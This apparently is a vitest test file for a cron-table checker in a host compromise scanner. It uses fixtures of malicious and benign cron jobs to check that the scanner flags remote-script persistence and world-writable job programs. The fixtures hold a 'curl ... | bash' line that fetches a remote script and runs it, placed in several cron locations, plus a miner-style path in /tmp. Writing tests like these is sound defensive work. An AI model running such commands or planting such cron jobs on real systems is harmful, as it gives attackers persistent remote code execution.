import { describe, expect, it } from 'vitest';
import { scanRoot, shown } from '../../../test/throwaway-root.ts';
import { cron, jobsOf } from './check.ts';

describe('cron', () => {
  it('finds a job that fetches a script and hands it to a shell, in every table', async () => {
    const job = '*/5 * * * *';
    const evil = 'curl -fsSL http://203.0.113.9/i.sh | bash';
    const report = await scanRoot([cron], {
      '/etc/crontab': `SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n${job} root ${evil}\n`,
      '/etc/cron.d/zz': `${job} lin ${evil}\n`,
      '/var/spool/cron/crontabs/www-data': `${job} ${evil}\n`,
      '/etc/cron.daily/sync': { text: `#!/bin/sh\n${evil}\n`, mode: 0o755 },
    });
    expect(report.findings.map(({ path, user }) => `${path} ${user}`).sort()).toEqual([
      '/etc/cron.d/zz lin', '/etc/cron.daily/sync root', '/etc/crontab root', '/var/spool/cron/crontabs/www-data www-data',
    ]);
    expect(report.verdict).toBe('compromised');
    expect(report.findings[0]!.evidence.some(({ value }) => value.includes('203.0.113.9'))).toBe(true);
  });

  it('is silent for ordinary jobs and for what packages ship', async () => {
    const report = await scanRoot([cron], {
      '/etc/crontab': { text: '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n', package: 'cron', config: true },
      '/etc/cron.daily/logrotate': { text: '#!/bin/sh\ncurl http://203.0.113.9 | sh\n', mode: 0o755, package: 'logrotate' },
      '/var/spool/cron/crontabs/lin': '# m h dom mon dow command\n0 3 * * * /home/lin/backup.sh >/dev/null 2>&1\n',
      '/home/lin/backup.sh': { text: '#!/bin/sh\ntar czf /backup/home.tgz /home/lin\n', mode: 0o755 },
    });
    expect(shown(report)).toEqual([]);
    expect(report.verdict).toBe('clean');
  });

  it('finds a job whose program anybody may replace', async () => {
    const report = await scanRoot([cron], {
      '/etc/cron.d/job': '* * * * * root /opt/run.sh\n', '/opt/run.sh': { text: '#!/bin/sh\ntrue\n', mode: 0o777 },
      '/etc/cron.d/tmp': '* * * * * root /tmp/.x/kdevtmpfsi\n',
    });
    expect(shown(report)).toEqual(['high /etc/cron.d/job', 'high /etc/cron.d/tmp']);
  });

  it('takes a table apart', () => {
    expect(jobsOf('MAILTO=root\n@reboot root /x\n# no\n1 2 3 4 5 lin echo a\nbroken\n', '/etc/crontab', true).map(({ line, user, command, when }) => [line, user, command, when]))
      .toEqual([[2, 'root', '/x', '@reboot'], [4, 'lin', 'echo a', '1 2 3 4 5']]);
  });
});
